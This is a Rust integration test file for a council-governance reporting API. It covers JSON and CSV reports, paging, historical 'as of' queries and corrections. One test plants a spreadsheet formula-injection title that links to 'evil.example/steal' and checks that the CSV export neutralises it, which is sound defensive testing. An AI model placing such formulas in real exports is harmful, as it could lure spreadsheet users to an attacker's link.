//! Reports over HTTP: the five read models with the filters and "as of" points of `covenant
//! report`, as JSON and CSV, a page at a time, up to date with the commands just recorded.

use app::Role;
use app::seeds;
use serde_json::{Value, json};
use tests::{TestStore, make_commitment, on_both_backends, spawn_app};

use super::answer;

async fn json(response: reqwest::Response) -> Value {
    assert_eq!(response.status(), 200);
    response.json().await.expect("a JSON body")
}

async fn reports_answer_with_filters_pages_and_past_points(db: &TestStore) {
    let app = spawn_app(db).await;
    app.load(&seeds::lincolnshire()).await;
    let reader = app.token(Role::Reader, None).await;

    let board = json(app.get("/api/v1/status", &reader).send().await.expect("get")).await;
    let instruments = board["instruments"].as_array().expect("instruments").len();
    assert!(instruments >= 2, "{board}");
    assert_eq!(board["page"]["total"], instruments);
    assert_eq!(board["position"], app.head().await);

    let first = json(app.get("/api/v1/status?limit=1", &reader).send().await.expect("get")).await;
    assert_eq!(first["instruments"].as_array().map(Vec::len), Some(1));
    assert_eq!(first["page"], json!({"offset": 0, "limit": 1, "total": instruments, "next_offset": 1}));
    let last = json(
        app.get(&format!("/api/v1/status?limit=1&offset={}", instruments - 1), &reader).send().await.expect("get"),
    )
    .await;
    assert_eq!(last["page"]["next_offset"], Value::Null);

    let before = json(app.get("/api/v1/status?as_of=2017-12-31", &reader).send().await.expect("get")).await;
    assert_eq!(before["instruments"], json!([]), "nothing had been drafted by then");
    assert_eq!(before.get("position"), None, "a past point is folded for the request");
    let decided = json(app.get("/api/v1/status?decided_by=2017-12-31", &reader).send().await.expect("get")).await;
    assert_eq!(decided["instruments"], json!([]));

    let district =
        json(app.get("/api/v1/actions?organisation=GB-LAE-WLI&by=body", &reader).send().await.expect("get")).await;
    let rows = district["rows"].as_array().expect("rows");
    assert!(
        !rows.is_empty()
            && rows
                .iter()
                .all(|r| r["organisation"] == "GB-LAE-WLI" || r["previously"].to_string().contains("GB-LAE-WLI")),
        "{district}"
    );

    let csv = app.get("/api/v1/resolutions", &reader).header("accept", "text/csv").send().await.expect("get");
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    let csv = csv.text().await.expect("body");
    assert!(csv.starts_with("Decided,Body,Minute,Outcome,Standing,Call-in,Corrections,Caused,Commitments\n"), "{csv}");

    let blueprint = "/api/v1/status/lincolnshire-homes-for-independence-blueprint";
    let detail = json(app.get(blueprint, &reader).send().await.expect("get")).await;
    assert_eq!(detail["instrument"], "lincolnshire-homes-for-independence-blueprint");
    let missing = app.get("/api/v1/status/no-such-plan", &reader).send().await.expect("get");
    assert_eq!(missing.status(), 404);
    app.stop().await;
}

async fn reports_see_the_command_just_recorded(db: &TestStore) {
    let app = spawn_app(db).await;
    app.load(&seeds::lincolnshire()).await;
    let reader = app.token(Role::Reader, None).await;
    let secretariat = app.token(Role::Secretariat, None).await;
    let reading = json!({"command": "record_measurement", "id": "west-lindsey-dfg-completions", "value": 150.0, "as_of": "2024-03-31"});
    for round in 0..3 {
        let value = 150.0 + f64::from(round);
        let mut command = reading.clone();
        command["value"] = value.into();
        command["as_of"] = format!("2024-0{}-15", round + 1).into();
        let recorded = app.post("/api/v1/indicators", &secretariat, &command).send().await.expect("post");
        assert_eq!(recorded.status(), 201);
        let board =
            json(app.get("/api/v1/indicators?organisation=GB-LAE-WLI", &reader).send().await.expect("get")).await;
        assert_eq!(board["indicators"][0]["latest"]["value"], value, "{board}");
        assert_eq!(board["position"], app.head().await);
    }
    // Asked again with nothing recorded between, the same request gets the same answer, and the
    // same route in the other representation gets its own.
    let url = "/api/v1/indicators?organisation=GB-LAE-WLI";
    let first = app.get(url, &reader).send().await.expect("get").text().await.expect("a body");
    let again = app.get(url, &reader).send().await.expect("get").text().await.expect("a body");
    assert_eq!(first, again);
    let csv = app.get(url, &reader).header("accept", "text/csv").send().await.expect("get");
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    assert!(csv.text().await.expect("a body").lines().count() > 1, "a CSV header and rows");
    app.stop().await;
}

async fn one_resolution_is_given_whole(db: &TestStore) {
    let app = spawn_app(db).await;
    app.load(&seeds::lincolnshire()).await;
    let reader = app.token(Role::Reader, None).await;

    let minute =
        json(app.get("/api/v1/resolutions/west-lindsey-pcc-2021-03-09-45", &reader).send().await.expect("get")).await;
    assert_eq!(minute["resolution"], "west-lindsey-pcc-2021-03-09-45");
    assert_eq!(minute["outcome"], "adopted");
    assert!(
        minute["text"].as_str().is_some_and(|t| t.starts_with("RESOLVED that West Lindsey District Council adopt")),
        "{minute}"
    );
    let caused = minute["caused"].as_array().expect("what it authorised");
    assert!(caused.iter().any(|c| c["act"] == "adoption" && c["party"] == "GB-LAE-WLI"), "{minute}");
    assert!(!minute["commitments"].as_array().expect("its delivery trail").is_empty(), "{minute}");

    let secretariat = app.token(Role::Secretariat, None).await;
    let correct = json!({"command": "correct", "id": "west-lindsey-pcc-2021-03-09-45",
        "text": "RESOLVED that West Lindsey District Council adopt the Lincolnshire Homes for Independence Blueprint.",
        "reason": "Wording as confirmed at the next meeting"});
    let recorded = app.post("/api/v1/resolutions", &secretariat, &correct).send().await.expect("post");
    assert_eq!(recorded.status(), 201);
    let corrected =
        json(app.get("/api/v1/resolutions/west-lindsey-pcc-2021-03-09-45", &reader).send().await.expect("get")).await;
    let correction = &corrected["corrections"][0];
    assert_eq!(correction["reason"], "Wording as confirmed at the next meeting");
    assert!(correction["actor"].is_string() && correction["corrected_on"].is_string(), "{corrected}");
    assert_eq!(correction["previous_text"], minute["text"]);

    let before = app
        .get("/api/v1/resolutions/west-lindsey-pcc-2021-03-09-45?as_of=2021-03-08", &reader)
        .send()
        .await
        .expect("get");
    assert_eq!(before.status(), 404, "not yet decided on 8 March 2021");
    let bad = app.get("/api/v1/resolutions/Not%20a%20key", &reader).send().await.expect("get");
    assert_eq!(bad.status(), 400);
    app.stop().await;
}

async fn bad_report_requests_are_problems(db: &TestStore) {
    let app = spawn_app(db).await;
    let reader = app.token(Role::Reader, None).await;
    let cases = [
        ("too_large_a_page", "/api/v1/status?limit=5000", "application/json"),
        ("unknown_parameter", "/api/v1/status?instrumnet=x", "application/json"),
        ("by_outside_the_action_log", "/api/v1/status?by=body", "application/json"),
        ("not_a_date", "/api/v1/actions?from=31/03/2024", "application/json"),
        ("not_acceptable", "/api/v1/status", "application/xml"),
    ];
    for (name, path, accept) in cases {
        let response = app.get(path, &reader).header("accept", accept).send().await.expect("get");
        insta::assert_json_snapshot!(name, answer(response).await);
    }
    app.stop().await;
}

/// The title of an action written by someone hoping a spreadsheet runs it.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/steal\",\"Open the plan\")";

async fn a_formula_in_an_action_title_comes_out_of_csv_as_text(db: &TestStore) {
    let app = spawn_app(db).await;
    app.load(&seeds::lincolnshire()).await;
    let secretariat = app.token(Role::Secretariat, None).await;
    let mut command = make_commitment(0);
    command["title"] = FORMULA.into();
    let made = app.post("/api/v1/commitments", &secretariat, &command).send().await.expect("post");
    assert_eq!(made.status(), 201);
    let reader = app.token(Role::Reader, None).await;
    let csv = app.get("/api/v1/actions?organisation=GB-LAE-WLI", &reader).header("accept", "text/csv").send().await;
    let csv = csv.expect("get").text().await.expect("a body");
    let neutralised = format!("\"'{}\"", FORMULA.replace('"', "\"\""));
    assert!(csv.contains(&neutralised), "the title starts with ' in the CSV: {csv}");
    assert!(!csv.contains(",\"=") && !csv.lines().any(|l| l.starts_with("\"=")), "no cell starts with =: {csv}");
    app.stop().await;
}

on_both_backends!(
    reports_answer_with_filters_pages_and_past_points,
    a_formula_in_an_action_title_comes_out_of_csv_as_text,
    reports_see_the_command_just_recorded,
    one_resolution_is_given_whole,
    bad_report_requests_are_problems,
);
